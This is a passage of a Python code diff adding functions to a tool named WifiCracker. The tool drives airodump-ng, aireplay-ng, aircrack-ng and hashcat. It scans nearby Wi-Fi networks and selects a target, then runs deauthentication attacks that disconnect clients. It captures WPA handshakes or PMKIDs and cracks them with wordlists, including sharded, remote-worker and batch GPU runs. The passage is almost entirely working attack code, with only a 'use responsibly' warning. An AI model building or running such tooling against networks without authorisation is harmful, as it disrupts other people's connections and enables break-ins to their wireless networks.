+                print(f"Error output: {e.stderr.strip()}")
+
+    def scan_wifi_networks(self):
+            """
+            Launches 'airodump-ng' to scan for networks on an interface in monitor mode.
+            """
+            # --- This function has been significantly updated ---
+            print(f"\n{Colors.HEADER}--- Scan for Nearby Wi-Fi Networks ---{Colors.ENDC}\n")
+            print(f"{Colors.WARNING}This option uses 'airodump-ng' and requires an interface in MONITOR MODE.{Colors.ENDC}")
+    
+            if not self.privileged:
+                print(f"{Colors.FAIL}Error: This action requires root privileges.{Colors.ENDC}")
+                print(f"{Colors.FAIL}Please run the script with 'sudo python3 app.py'{Colors.ENDC}")
+                return
+    
+            # Check if airodump-ng is installed by checking for its parent suite
+            if not self.backend.available('airodump-ng'):
+                print(f"{Colors.FAIL}Error: 'airodump-ng' not found. Please install the 'aircrack-ng' suite.{Colors.ENDC}")
+                return
+    
+            interfaces = self.get_wireless_interfaces()
+            if not interfaces:
+                print(f"{Colors.WARNING}No wireless interfaces found to use for scanning.{Colors.ENDC}")
+                return
+    
+            print("\nAvailable wireless interfaces for scanning:")
+            # Show the mode next to the interface name
+            modes = self.get_interface_modes()
+            for iface in interfaces:
+                print(f"  - {Colors.BOLD}{iface:<15}{Colors.ENDC} (Mode: {modes.get(iface) or 'Unknown'})")
+    
+            scan_processes = [] # Started before the try block's cleanup can run
+            merger = None
+            database = None
+            view = None
+            choice = None
+
+            try:
+                answer = input(f"\n{Colors.OKBLUE}Enter the interface(s) to use for scanning (e.g., wlan0mon, or several to split the channels): {Colors.ENDC}").strip()
+                chosen = [name for name in re.split(r'[\s,]+', answer) if name]
+                for name in chosen:
+                    if name not in interfaces:
+                        print(f"\n{Colors.FAIL}Error: '{name}' is not a valid interface.{Colors.ENDC}")
+                        return
+                if not chosen:
+                    return
+                choice = chosen[0]
+                
+                # Verify the selected interfaces are in Monitor mode
+                not_monitor = [name for name in chosen if modes.get(name) != 'Monitor']
+
+                if not_monitor:
+                    names = ', '.join(not_monitor)
+                    print(f"\n{Colors.FAIL}Error: Interface(s) '{names}' not in monitor mode.{Colors.ENDC}")
+                    prompt = input(f"{Colors.OKBLUE}Would you like to enable monitor mode for '{names}' now? (y/n): {Colors.ENDC}").strip().lower()
+                    if prompt == 'y':
+                        print(f"\n{Colors.OKCYAN}Attempting to enable monitor mode...{Colors.ENDC}")
+                        try:
+                            self.set_interface_mode(not_monitor, 'monitor')
+                        except ModeSwitchError as e:
+                            print(f"\n{Colors.FAIL}Failed to enable monitor mode ({e}). Please try again from the main menu.{Colors.ENDC}")
+                            return # Return to main menu if enabling failed
+                        print(f"\n{Colors.OKGREEN}Monitor mode enabled successfully. Continuing with scan...{Colors.ENDC}")
+                        time.sleep(2) # Pause to let the user see the message
+                    else:
+                        print(f"{Colors.WARNING}Scan cancelled. Please enable monitor mode to proceed.{Colors.ENDC}")
+                        return
+                
+                # --- New logic to run in the same terminal ---
+                discovered_networks = []
+                
+                if len(chosen) > 1:
+                    print(f"\n{Colors.OKCYAN}Splitting the 2.4/5 GHz channels across {len(chosen)} adapters.{Colors.ENDC}")
+                print(f"\n{Colors.OKCYAN}Starting background scan... Press Ctrl+C to stop.{Colors.ENDC}")
+                time.sleep(2) # Give airodump-ng a moment to start up
+                
+                # Start the scans in the background; their screen output is kept for error reports only
+                scan_processes, merger = self.start_survey(chosen)
+                database = self._open_scan_database(chosen)
+
+                view = LiveTableRenderer(
+                    "--- Live Wi-Fi Scan --- (Press Ctrl+C to stop)",
+                    [('#', 4), ('BSSID', 19), ('PWR', 5), ('CH', 4), ('ENC', 10), ('CL', 4), ('ESSID', 0)]
+                )
+
+                # Loop to read and display data, waking up whenever airodump-ng rewrites a file
+                active_scan = True
+                while True:
+                    failed = next((p for p in scan_processes if not p.running), None)
+                    if failed:
+                        view.close()
+                        self._report_failure(failed)
+                        active_scan = False
+                        break
+
+                    if not any(os.path.exists(path) for path in merger.readers):
+                        view.render([], footer="Waiting for data...")
+                        merger.wait_for_change(timeout=1) # Also wakes up when airodump-ng creates its file
+                        continue
+
+                    changed = merger.refresh()
+                    if changed and database:
+                        database.record(merger.access_points[bssid] for bssid in changed)
+                    if changed or view.pending:
+                        current_networks = list(merger.access_points.values())
+                        # Strongest networks first, so the visible part of a long list is the useful part
+                        numbered = sorted(
+                            enumerate(current_networks, 1),
+                            key=lambda item: self._power_value(item[1]['power']),
+                            reverse=True
+                        )
+                        rows = [
+                            [
+                                ('', i), ('', ap['bssid']),
+                                (self._power_colour(ap['power']), ap['power']),
+                                ('', ap['channel']), ('', ap['encryption']),
+                                (Colors.OKGREEN if ap['clients'] else '', ap['clients']), ('', ap['essid'])
+                            ]
+                            for i, ap in numbered
+                        ]
+                        footer = f"{len(current_networks)} network(s) found"
+                        if len(scan_processes) > 1:
+                            footer += f" by {len(scan_processes)} adapters"
+                        view.render(rows, footer=footer)
+                        discovered_networks = current_networks
+
+                    merger.wait_for_change(timeout=view.next_frame_in() if view.pending else 2)
+    
+            except KeyboardInterrupt:
+                print(f"\n\n{Colors.WARNING}Scan stopped by user.{Colors.ENDC}")
+                active_scan = False # Signal that the scan loop has ended
+            except Exception as e:
+                print(f"An unexpected error occurred: {e}")
+                active_scan = False
+            finally:
+                # --- Cleanup ---
+                if view:
+                    view.close()
+                if merger:
+                    merger.close()
+                    coverage = merger.coverage()
+                    if coverage["networks"]:
+                        print(f"{Colors.OKCYAN}Time to find 50%/90%/100% of {coverage['networks']} network(s): "
+                              f"{coverage['t50']}s / {coverage['t90']}s / {coverage['t100']}s{Colors.ENDC}")
+                if database:
+                    database.close()
+                    print(f"{Colors.OKCYAN}Scan saved to the history database ({database.path}).{Colors.ENDC}")
+                if scan_processes:
+                    self.supervisor.stop(*scan_processes) # Stop the background processes
+                    for process in scan_processes:
+                        print(f"{Colors.OKCYAN}{process.summary()}{Colors.ENDC}")
+                
+                # Clean up the temporary files created by airodump-ng
+                for file in os.listdir('/tmp/'):
+                    if file.startswith("wifi_scan-"):
+                        os.remove(os.path.join('/tmp/', file))
+                print(f"{Colors.OKCYAN}Cleanup complete.{Colors.ENDC}")
+    
+            # --- New logic for targeting a network ---
+            if not active_scan and discovered_networks:
+                print(f"\n{Colors.HEADER}--- Target Selection ---{Colors.ENDC}\n")
+                target_choice = input(f"{Colors.OKBLUE}Enter network # to target, or 'q' to return to menu: {Colors.ENDC}").strip()
+    
+                if target_choice.lower() == 'q':
+                    return
+                
+                try:
+                    target_index = int(target_choice) - 1
+                    if 0 <= target_index < len(discovered_networks):
+                        target = discovered_networks[target_index]
+                        bssid = target['bssid']
+                        channel = target['channel']
+                        interface = choice # The interface chosen at the start
+    
+                        print(f"\nSelected Target: {Colors.BOLD}{target['essid']}{Colors.ENDC} ({bssid})")
+                        clients = merger.clients_of(bssid)
+                        if clients:
+                            print(f"{Colors.OKCYAN}Clients seen during the scan:{Colors.ENDC}")
+                            for station in clients:
+                                probes = f"  probing: {', '.join(station['probes'])}" if station['probes'] else ""
+                                print(f"  {station['station']}  PWR {station['power']:>4}  {station['packets']:>6} pkts{probes}")
+                        else:
+                            print(f"{Colors.WARNING}No clients seen during the scan.{Colors.ENDC}")
+                        print(f"{Colors.OKCYAN}Choose an action:{Colors.ENDC}")
+                        print(f"  {Colors.OKBLUE}1.{Colors.ENDC} Targeted Scan (view clients)")
+                        print(f"  {Colors.OKBLUE}2.{Colors.ENDC} Deauthentication Attack (disconnect clients)")
+                        print(f"  {Colors.OKBLUE}3.{Colors.ENDC} Targeted Scan + Deauth Attack (for handshake capture)")
+                        action_choice = input(f"{Colors.OKBLUE}Enter action choice: {Colors.ENDC}").strip()
+    
+                        if action_choice in ['1', '2', '3']:
+                            if action_choice == '2':
+                                # Action 2: Deauth attack only
+                                print(f"\n{Colors.WARNING}Starting deauthentication attack on {bssid}...{Colors.ENDC}")
+                                print(f"{Colors.FAIL}{Colors.BOLD}WARNING: This will disrupt the network. Use responsibly.{Colors.ENDC}")
+                                self.run_deauth(bssid, interface)
+                            elif action_choice == '1':
+                                # Action 1: View clients only
+                                print(f"\n{Colors.HEADER}--- Targeted Scan Mode (View Only) ---{Colors.ENDC}")
+                                print(f"\n{Colors.OKCYAN}Press Ctrl+C in this window to stop the scan.{Colors.ENDC}")
+                                time.sleep(2)
+                                self.run_interactive_command(self.backend.airodump(interface, bssid=bssid, channel=channel),
+                                                             name='airodump-ng')
+                            else:
+                                # Action 3: Capture handshake with deauth
+                                print(f"\n{Colors.WARNING}{'='*60}{Colors.ENDC}")
+                                print(f"{Colors.HEADER}--- Handshake Capture Mode ---{Colors.ENDC}")
+                                print(f"{Colors.WARNING}{Colors.BOLD}Both tools stop by themselves as soon as a usable handshake{Colors.ENDC}")
+                                print(f"{Colors.WARNING}{Colors.BOLD}or PMKID for this network is in the capture file.{Colors.ENDC}")
+                                print(f"{Colors.WARNING}{'='*60}{Colors.ENDC}")
+                                
+                                # --- Sequential file naming, the catalog knows the highest number ---
+                                capture_file_path = self.captures.next_capture_prefix('.')
+                                print(f"\n{Colors.OKCYAN}Capture file will be saved as '{os.path.basename(capture_file_path)}-01.cap'.{Colors.ENDC}")
+                                time.sleep(4)
+                                
+                                self.capture_handshake(bssid, channel, interface, capture_file_path)
+                        else:
+                            print(f"{Colors.FAIL}Invalid action choice.{Colors.ENDC}")
+                    else:
+                        print(f"{Colors.FAIL}Invalid network number.{Colors.ENDC}")
+                except ValueError:
+                    print(f"{Colors.FAIL}Invalid input. Please enter a number.{Colors.ENDC}")
+
+    def start_survey(self, interfaces, bands=('2.4', '5'), output_prefix="/tmp/wifi_scan"):
+        """
+        Starts one airodump-ng per interface. With several interfaces the
+        channels of 'bands' are split between them, each channel going only to
+        adapters that report it; a single interface hops airodump-ng's default
+        channels. Returns (processes, SurveyMerger); raises ValueError when no
+        adapter supports any channel of 'bands'.
+        """
+        if len(interfaces) > 1:
+            plan = partition_channels(interfaces, bands, self.interfaces.frequencies(interfaces))
+            if not plan:
+                raise ValueError(f"none of {', '.join(interfaces)} supports the {'/'.join(bands)} GHz channels")
+        else:
+            plan = {interfaces[0]: None}
+        processes, paths = [], []
+        try:
+            for interface, frequencies in plan.items():
+                prefix = f"{output_prefix}-{interface}"
+                command = self.backend.airodump(interface, write=prefix, output_format='csv', write_interval=1,
+                                                frequencies=frequencies)
+                processes.append(self.supervisor.start(command, name=f"airodump-ng {interface}"))
+                paths.append(f"{prefix}-01.csv") # airodump-ng names the file <prefix>-01.csv
+        except Exception:
+            self.supervisor.stop(*processes)
+            raise
+        return processes, SurveyMerger(paths)
+
+    def _open_scan_database(self, interfaces):
+        """Opens the scan history for a new scan; a broken database must not stop the scan."""
+        try:
+            database = ScanDatabase()
+            database.start_scan(interfaces)
+            return database
+        except Exception as e:
+            print(f"{Colors.WARNING}Scan history disabled: {e}{Colors.ENDC}", file=sys.stderr)
+            return None
+
+    def run_scan(self, interfaces, duration, bands=('2.4', '5'), output_prefix="/tmp/wifi_scan"):
+        """
+        Non-interactive scan: runs airodump-ng on one or more monitor-mode
+        interfaces for 'duration' seconds. Returns the merged access points,
+        the coverage statistics of the survey and the load of the scan loop:
+        how long each refresh took and the CPU used by this process and by
+        the capture tools, as a percentage of one core.
+        """
+        processes, merger = self.start_survey(interfaces, bands, output_prefix)
+        database = self._open_scan_database(interfaces)
+        started, cpu_started = time.monotonic(), time.process_time()
+        deadline = started + duration
+        latencies = []
+        try:
+            while True:
+                remaining = deadline - time.monotonic()
+                finished = remaining <= 0 or not all(p.running for p in processes)
+                if not finished:
+                    merger.wait_for_change(timeout=min(remaining, 1))
+                refresh_started = time.perf_counter()
+                changed = merger.refresh()
+                if changed and database:
+                    database.record(merger.access_points[bssid] for bssid in changed)
+                if changed:
+                    latencies.append((time.perf_counter() - refresh_started) * 1000)
+                if finished:
+                    break
+            elapsed = time.monotonic() - started
+            latencies.sort()
+            load = {
+                "refreshes": len(latencies),
+                "refresh_p50_ms": round(latencies[len(latencies) // 2], 1) if latencies else None,
+                "refresh_p95_ms": round(latencies[int(len(latencies) * 0.95)], 1) if latencies else None,
+                "refresh_max_ms": round(latencies[-1], 1) if latencies else None,
+                "cpu_percent": round((time.process_time() - cpu_started) / elapsed * 100, 1),
+                "tools_cpu_percent": round(sum(p.cpu_time for p in processes) / elapsed * 100, 1),
+            }
+            return list(merger.access_points.values()), merger.coverage(), load
+        finally:
+            merger.close()
+            if database:
+                database.close()
+            self.supervisor.stop(*processes)
+            directory, prefix = os.path.split(output_prefix)
+            for file in os.listdir(directory):
+                if file.startswith(prefix + "-"):
+                    os.remove(os.path.join(directory, file))
+
+    @staticmethod
+    def _power_value(power):
+        """Converts airodump-ng's PWR column to an int; -1 means "not measured"."""
+        try:
+            value = int(power)
+        except ValueError:
+            return -1000
+        return value if value < -1 else -1000
+
+    @staticmethod
+    def _power_colour(power):
+        """Colour for a signal strength, green for strong and red for weak signals."""
+        value = WifiCracker._power_value(power)
+        if value >= -60:
+            return Colors.OKGREEN
+        if value >= -75:
+            return Colors.WARNING
+        return Colors.FAIL
+
+    def run_in_new_terminal(self, command: list):
+            """Helper function to run a command in a new terminal window."""
+            terminal_cmd = self.tools.terminal()
+            if not terminal_cmd:
+                print(f"\n{Colors.FAIL}Error: Could not find a supported terminal emulator.{Colors.ENDC}")
+                return False
+    
+            self.supervisor.start(terminal_cmd + command, name=command[0])
+            print(f"{Colors.OKCYAN}Command '{command[0]}' started in a new window.{Colors.ENDC}")
+            return True
+
+    def start_deauth(self, bssid, interface):
+        """
+        Starts a continuous deauthentication attack with aireplay-ng under the
+        supervisor and returns its process, or None if it could not start.
+        Each 'Sending ... DeAuth' line it prints is counted as one burst.
+        """
+        def on_line(child, line):
+            if 'DeAuth' in line and line.split()[1:2] == ['Sending']:
+                child.info['bursts'] = child.info.get('bursts', 0) + 1
+        try:
+            child = self.supervisor.start(self.backend.deauth(bssid, interface), name='aireplay-ng', on_line=on_line)
+        except FileNotFoundError:
+            print(f"{Colors.FAIL}Error: 'aireplay-ng' not found. Please install the 'aircrack-ng' suite.{Colors.ENDC}")
+            return None
+        return child
+
+    def run_deauth(self, bssid, interface):
+        """Runs a deauthentication attack in this terminal until Ctrl+C."""
+        deauth = self.start_deauth(bssid, interface)
+        if not deauth:
+            return
+        print(f"{Colors.OKCYAN}Press Ctrl+C to stop the attack.{Colors.ENDC}")
+        try:
+            while deauth.wait(timeout=0.5) is None:
+                sys.stdout.write(f"\r\033[K{Colors.OKCYAN}{deauth.info.get('bursts', 0)} deauth burst(s) sent, {deauth.runtime:.0f}s{Colors.ENDC}")
+                sys.stdout.flush()
+        except KeyboardInterrupt:
+            pass
+        finally:
+            self.supervisor.stop(deauth)
+            print()
+            self._report_deauth(deauth)
+
+    def _report_deauth(self, deauth):
+        if deauth.returncode not in (None, -signal.SIGINT, -signal.SIGTERM, -signal.SIGKILL) and not deauth.info.get('bursts'):
+            self._report_failure(deauth)
+        else:
+            print(f"{Colors.OKCYAN}{deauth.info.get('bursts', 0)} deauth burst(s) sent. {deauth.summary()}{Colors.ENDC}")
+
+    def _report_failure(self, child):
+        """Explains a supervised tool that stopped on its own, with its last output."""
+        print(f"\n{Colors.FAIL}'{child.name}' stopped unexpectedly ({child.summary()}).{Colors.ENDC}")
+        for line in child.tail:
+            print(f"{Colors.FAIL}  {line}{Colors.ENDC}")
+
+    def capture_handshake(self, bssid, channel, interface, capture_prefix):
+        """
+        Runs airodump-ng on the target (in this terminal) with aireplay-ng
+        deauthenticating its clients in the background, and stops both the
+        moment the capture file holds a usable handshake or PMKID.
+        The raw capture is kept; a compact copy is written next to it.
+        Returns the path of the compact copy (the raw capture if it could not
+        be written), or None if nothing usable was captured.
+        """
+        cap_file = f"{capture_prefix}-01.cap" # airodump-ng numbers its files
+        watcher = HandshakeWatcher(cap_file, bssid)
+        deauth = self.start_deauth(bssid, interface)
+        capture = None
+        try:
+            os.system('clear')
+            capture = self.supervisor.start(
+                self.backend.airodump(interface, bssid=bssid, channel=channel, write=capture_prefix),
+                name='airodump-ng', interactive=True
+            )
+            while capture.running:
+                if watcher.wait(0.5):
+                    # Stop the attack first, every extra deauth burst is needless disruption
+                    if deauth:
+                        self.supervisor.stop(deauth)
+                    self.supervisor.stop(capture)
+                    break
+        except KeyboardInterrupt:
+            pass
+        finally:
+            watcher.close()
+            if deauth:
+                self.supervisor.stop(deauth)
+            if capture:
+                self.supervisor.stop(capture)
+        if deauth:
+            self._report_deauth(deauth)
+        if watcher.check():
+            print(f"\n{Colors.OKGREEN}{watcher.found().capitalize()} for {bssid} captured after {watcher.time_to_capture:.1f}s "
+                  f"in '{cap_file}'.{Colors.ENDC}")
+            return self._compact_capture(cap_file)
+        print(f"\n{Colors.WARNING}Capture stopped without a usable handshake or PMKID for {bssid}.{Colors.ENDC}")
+        return None
+
+    def _compact_capture(self, cap_file):
+        """
+        Writes <capture>-compact.cap next to a capture, keeping only what
+        cracking needs; the raw capture stays as it is, like 'compact'
+        without --in-place. Returns the compact path, or cap_file on failure.
+        """
+        try:
+            result = CaptureCompactor().compact(cap_file)
+        except (OSError, ValueError) as e:
+            print(f"{Colors.WARNING}Could not compact '{cap_file}': {e}{Colors.ENDC}")
+            return cap_file
+        if not result["path"]:
+            return cap_file
+        print(f"{Colors.OKCYAN}Compact copy '{result['path']}': {format_size(result['size_in'])} ({result['frames_in']} frames) "
+              f"down to {format_size(result['size_out'])} ({result['frames_out']} frames).{Colors.ENDC}")
+        return result["path"]
+
+    def run_interactive_command(self, command: list, name=None):
+            """Helper function to run a command directly in the current terminal."""
+            child = None
+            name = name or command[0]
+            try:
+                os.system('clear')
+                child = self.supervisor.start(command, name=name, interactive=True)
+                child.wait()
+            except KeyboardInterrupt:
+                # The child got the same Ctrl+C; make sure it is really gone
+                if child:
+                    self.supervisor.stop(child)
+                print(f"\n\n{Colors.WARNING}Process '{name}' stopped by user.{Colors.ENDC}")
+            except Exception as e:
+                print(f"\nAn error occurred: {e}")
+
+    def crack_handshake(self):
+            """
+            Attempts to crack a WPA/WPA2 handshake from a .cap file using a wordlist.
+            """
+            print(f"\n{Colors.HEADER}--- Crack WPA/WPA2 Handshake ---{Colors.ENDC}\n")
+    
+            # Check if aircrack-ng is installed
+            if not self.tools.available('aircrack-ng'):
+                print(f"{Colors.FAIL}Error: 'aircrack-ng' not found. Please install the 'aircrack-ng' suite.{Colors.ENDC}")
+                return
+    
+            cap_file = None # Initialize
+            try:
+                # --- Get capture file from user ---
+                print("Captures with a usable handshake or PMKID:")
+                catalog = self.captures.refresh()
+                crackable = [(path, entry) for path, entry in catalog if entry["crackable"]]
+                cap_files = [os.path.relpath(path) for path, _ in crackable]
+                if not cap_files:
+                    print(f"  {Colors.WARNING}(No crackable captures found){Colors.ENDC}")
+                    return
+                else:
+                    for i, (f, (_, entry)) in enumerate(zip(cap_files, crackable), 1):
+                        targets = ", ".join(
+                            f"{network['essid']} ({CaptureAnalyzer.material(network)})"
+                            for network in entry["networks"].values() if network["crackable"]
+                        )
+                        print(f"  {i}. {f}  {Colors.OKCYAN}{targets}{Colors.ENDC}  ({format_size(entry['size'])})")
+                    if len(catalog) > len(crackable):
+                        print(f"  {Colors.WARNING}({len(catalog) - len(crackable)} capture(s) without a usable handshake or PMKID hidden){Colors.ENDC}")
+                
+                choice = input("\nEnter the number of the handshake file to crack, several for one batch run (e.g. 1,3), or 'all': ").strip()
+                if choice.lower() == 'all':
+                    chosen = list(range(len(cap_files)))
+                else:
+                    chosen = [int(part) - 1 for part in choice.split(',')]
+                if not all(0 <= index < len(cap_files) for index in chosen):
+                    print(f"\n{Colors.FAIL}Invalid number.{Colors.ENDC}")
+                    return
+                if len(chosen) > 1:
+                    self._crack_batch_interactive([cap_files[index] for index in chosen])
+                    return
+                cap_file = cap_files[chosen[0]]
+    
+            except ValueError:
+                print(f"\n{Colors.FAIL}Invalid input. Please enter a number.{Colors.ENDC}")
+                return
+            except Exception as e:
+                print(f"\nAn error occurred while listing files: {e}")
+                return
+    
+            # --- Check the capture and what is already known about it ---
+            state = self._capture_state(cap_file)
+            if not state:
+                return
+            export, crackable, fingerprints, uncracked = state
+            if not uncracked:
+                print(f"\n{Colors.OKGREEN}Every handshake in this capture has already been cracked.{Colors.ENDC}")
+                return
+    
+            wordlist = self._choose_wordlist()
+            if not wordlist:
+                return
+    
+            # --- Skip wordlists that were already run to the end against these handshakes ---
+            wordlist_fp = self.wordlists.current_fingerprint(wordlist)
+            exhausted = [b for b in uncracked if self.results.is_exhausted(fingerprints.get(b), wordlist_fp)]
+            if exhausted:
+                names = ', '.join(crackable[b]['essid'] or b for b in exhausted)
+                print(f"\n{Colors.WARNING}This wordlist was already fully tried against: {names} (key not in list).{Colors.ENDC}")
+                if len(exhausted) == len(uncracked):
+                    if input(f"{Colors.OKBLUE}Run it again anyway? (y/N): {Colors.ENDC}").strip().lower() != 'y':
+                        return
+
+            print(f"\n{Colors.OKCYAN}Starting cracking process... This can take a very long time.{Colors.ENDC}")
+            print(f"{Colors.OKCYAN}Press Ctrl+C to stop.{Colors.ENDC}\n")
+            time.sleep(2)
+    
+            # --- Ask for cracking method ---
+            print(f"\n{Colors.HEADER}--- Cracking Method ---{Colors.ENDC}")
+            print(f"  {Colors.OKBLUE}1.{Colors.ENDC} CPU (aircrack-ng, slower)")
+            print(f"  {Colors.OKBLUE}2.{Colors.ENDC} GPU (hashcat, much faster)")
+            print(f"  {Colors.OKBLUE}3.{Colors.ENDC} CPU on all {os.cpu_count()} core(s) (aircrack-ng per wordlist shard, no pause/resume)")
+            method_choice = input(f"{Colors.OKBLUE}Choose cracking method: {Colors.ENDC}").strip()
+
+            if method_choice == '3':
+                report = dict(export["report"], networks={b: crackable[b] for b in uncracked})
+                bssid = self._choose_network(report)
+                if not bssid:
+                    return
+                try:
+                    self.crack_sharded(cap_file, bssid, wordlist)
+                except ValueError as e:
+                    print(f"{Colors.FAIL}Error: {e}.{Colors.ENDC}")
+                except KeyboardInterrupt:
+                    print(f"\n{Colors.WARNING}Cracking stopped by user.{Colors.ENDC}")
+                return
+            if method_choice == '1':
+                # aircrack-ng attacks one network per run; choosing it here also lets it
+                # read candidates from stdin, where it could not prompt for a network
+                report = dict(export["report"], networks={b: crackable[b] for b in uncracked})
+                bssid = self._choose_network(report)
+                if not bssid:
+                    return
+                method = 'cpu'
+            elif method_choice == '2':
+                bssid = None
+                method = 'gpu'
+            else:
+                print(f"{Colors.FAIL}Invalid method choice.{Colors.ENDC}")
+                return
+
+            session = {
+                "name": SessionStore.new_name(cap_file, wordlist),
+                "cap_file": os.path.abspath(cap_file),
+                "wordlist": os.path.abspath(wordlist),
+                "wordlist_fingerprint": wordlist_fp,
+                "method": method,
+                "bssid": bssid,
+                "line": 0,
+                "offset": 0,
+                "hashcat_restore": False,
+            }
+            self._run_session(session, export, fingerprints, uncracked)
+
+    def crack_sharded(self, cap_file, bssid, wordlist, workers=None, remotes=(), token=None, store=True):
+        """
+        CPU cracking split across processes: the wordlist is cut into
+        line-aligned shards that 'workers' single-threaded aircrack-ng
+        processes (default: one per core) and the slots of remote
+        ShardWorkerServers ('host:port') take from one queue. With 'store'
+        the outcome is saved like any other run. Returns the ShardScheduler
+        result. Raises ValueError for a compressed wordlist and OSError when
+        a remote worker cannot be reached.
+        """
+        source = WordlistShards(wordlist)
+        pool = [LocalShardWorker(f"local#{i + 1}", cap_file, bssid, wordlist)
+                for i in range(workers if workers is not None else os.cpu_count() or 1)]
+        try:
+            for address in remotes:
+                pool += RemoteShardWorker.connect(address, cap_file, bssid, wordlist, token)
+        except OSError:
+            for worker in pool:
+                worker.close()
+            raise
+        if not pool:
+            raise ValueError("no workers")
+        shards = source.split(source.shard_size(len(pool)))
+        scheduler = ShardScheduler(shards, pool)
+        print(f"{Colors.OKCYAN}{len(shards)} shard(s) of {format_size(source.shard_size(len(pool)))} for "
+              f"{len(pool)} worker(s): {', '.join(worker.name for worker in pool)}{Colors.ENDC}")
+
+        def on_progress(done, nbytes, elapsed):
+            share = 100 * nbytes / source.size if source.size else 100
+            sys.stdout.write(f"\r\033[K{Colors.OKCYAN}{done}/{len(shards)} shards ({share:.1f}%), "
+                             f"{format_size(nbytes / elapsed if elapsed else 0)}/s, {elapsed:.0f}s{Colors.ENDC}")
+            sys.stdout.flush()
+        try:
+            result = scheduler.run(on_progress)
+        finally:
+            print()
+        rate = result["lines"] / result["seconds"] if result["seconds"] else 0
+        print(f"{Colors.OKCYAN}{result['lines']:,} candidates in {result['seconds']:.1f}s ({rate:,.0f}/s), "
+              f"{result['redispatched']} straggler shard(s) re-dispatched.{Colors.ENDC}")
+        for name, stats in result["workers"].items():
+            print(f"{Colors.OKCYAN}  {name}: {stats['shards']} shard(s), {format_size(stats['bytes'])} "
+                  f"in {stats['seconds']:.1f}s{Colors.ENDC}")
+        if not result["key"] and result["done"] != result["shards"]:
+            print(f"{Colors.WARNING}Incomplete run: every worker failed with {result['shards'] - result['done']} of "
+                  f"{result['shards']} shard(s) left, the wordlist was not fully tried.{Colors.ENDC}")
+        if store:
+            export = Hc22000Exporter().export(cap_file)
+            exhausted = not result["key"] and result["done"] == result["shards"]
+            self._store_results(export, ResultStore.handshake_fingerprints(export), [bssid],
+                                {bssid: result["key"]} if result["key"] else {},
+                                self.wordlists.current_fingerprint(wordlist) if exhausted else None)
+        return result
+
+    def shard_scaling(self, cap_file, bssid, wordlist, counts):
+        """
+        Runs the sharded CPU crack once per local worker count and prints
+        how throughput scales. A run that finds the key ends early, which
+        shows as time to key rather than a full pass.
+        """
+        rows = []
+        for count in counts:
+            print(f"\n{Colors.HEADER}--- {count} worker(s) ---{Colors.ENDC}")
+            result = self.crack_sharded(cap_file, bssid, wordlist, workers=count, store=False)
+            rows.append((count, result))
+        print(f"\n{Colors.HEADER}--- Scaling ({os.cpu_count()} CPU core(s)) ---{Colors.ENDC}")
+        print("workers\ttime\tcandidates/s\tspeed-up\tefficiency")
+        base_count, base = rows[0]
+        base_rate = base["lines"] / base["seconds"] if base["seconds"] else 0
+        for count, result in rows:
+            rate = result["lines"] / result["seconds"] if result["seconds"] else 0
+            speedup = rate / base_rate if base_rate else 0
+            key = "\tkey found" if result["key"] else ""
+            print(f"{count}\t{result['seconds']:.1f}s\t{rate:,.0f}\t\tx{speedup:.2f}\t\t"
+                  f"{100 * speedup * base_count / count:.0f}%{key}")
+        return rows
+
+    def _crack_batch_interactive(self, cap_files):
+        """Menu flow for several captures: one wordlist, one hashcat pass."""
+        print(f"\n{Colors.HEADER}--- Batch Cracking: {len(cap_files)} captures, one hashcat pass ---{Colors.ENDC}")
+        if not self.tools.available('hashcat'):
+            print(f"\n{Colors.FAIL}Error: batch cracking needs 'hashcat', aircrack-ng attacks one network per run.{Colors.ENDC}")
+            return
+        wordlist = self._choose_wordlist()
+        if wordlist:
+            self.crack_batch(cap_files, wordlist)
+
+    def crack_batch(self, cap_files, wordlist):
+        """
+        Cracks the networks of several captures that have no known key yet
+        in a single hashcat pass over 'wordlist', and stores each key
+        against every capture it belongs to. The wall time is reported next
+        to an estimate for one pass per capture: a pass costs about one PMK
+        per candidate and distinct ESSID, so the measured time is scaled by
+        the ESSIDs the separate passes would have hashed in total.
+        Returns (outcome, {capture: {bssid: key}}) where outcome is
+        'found', 'exhausted', 'stopped' or 'error'.
+        """
+        if not self.tools.available('hashcat'):
+            print(f"\n{Colors.FAIL}Error: 'hashcat' not found. Please install it to use batch cracking.{Colors.ENDC}")
+            return 'error', {}
+        try:
+            batch = Hc22000Batch().build(
+                cap_files, skip=lambda fingerprint: bool((self.results.lookup(fingerprint) or {}).get("key"))
+            )
+        except (OSError, ValueError) as e:
+            print(f"\n{Colors.FAIL}Could not read the captures: {e}{Colors.ENDC}")
+            return 'error', {}
+        if not batch["hash_file"]:
+            print(f"\n{Colors.OKGREEN}Every handshake in these captures has already been cracked.{Colors.ENDC}")
+            return 'found', {}
+        print(f"\n{Colors.OKCYAN}{len(cap_files)} capture(s): {batch['lines']} hash(es) for {len(batch['networks'])} network(s) "
+              f"in {batch['essids']} ESSID group(s), {batch['duplicates']} duplicate(s) dropped.{Colors.ENDC}")
+
+        name = f"batch_{time.strftime('%Y%m%d-%H%M%S')}"
+        command = ['hashcat', '--force', '-m', '22000', '--session', name,
+                   '--status', '--status-json', '--status-timer', '5', batch["hash_file"]]
+        stream = None
+        if WordlistStream.compression(wordlist):
+            stream = WordlistStream(wordlist)
+        else:
+            command.append(wordlist)
+        entry = self.wordlists.entry(wordlist)
+        telemetry = CrackTelemetry('hashcat', name, entry["lines"] if entry else None)
+        started = time.monotonic()
+        try:
+            returncode, interrupted = self._run_cracker(command, stream, telemetry)
+        except Exception as e:
+            print(f"\nAn error occurred during the cracking process: {e}")
+            return 'error', {}
+        elapsed = time.monotonic() - started
+
+        keys = self._hashcat_keys({"hash_file": batch["hash_file"], "report": {"networks": batch["networks"]}},
+                                  list(batch["networks"]))
+        exhausted = not interrupted and returncode in (0, 1) and (stream is None or stream.completed)
+        wordlist_fp = self.wordlists.current_fingerprint(wordlist) if exhausted else None
+        found = {}
+        print(f"\n{Colors.HEADER}--- Batch Results ---{Colors.ENDC}")
+        for path, source in batch["captures"].items():
+            found[path] = {bssid: keys[bssid] for bssid in source["bssids"] if bssid in keys}
+            print(f"\n{Colors.BOLD}{os.path.relpath(path)}{Colors.ENDC}: {len(found[path])}/{len(source['bssids'])} key(s) recovered")
+            self._store_results(source["export"], source["fingerprints"], source["bssids"], found[path], wordlist_fp)
+        sequential = elapsed * sum(source["essids"] for source in batch["captures"].values()) / batch["essids"]
+        print(f"{Colors.OKCYAN}Batch took {elapsed:.1f}s; one pass per capture would take about {sequential:.1f}s "
+              f"(x{sequential / elapsed if elapsed else 1:.1f}).{Colors.ENDC}")
+        if keys:
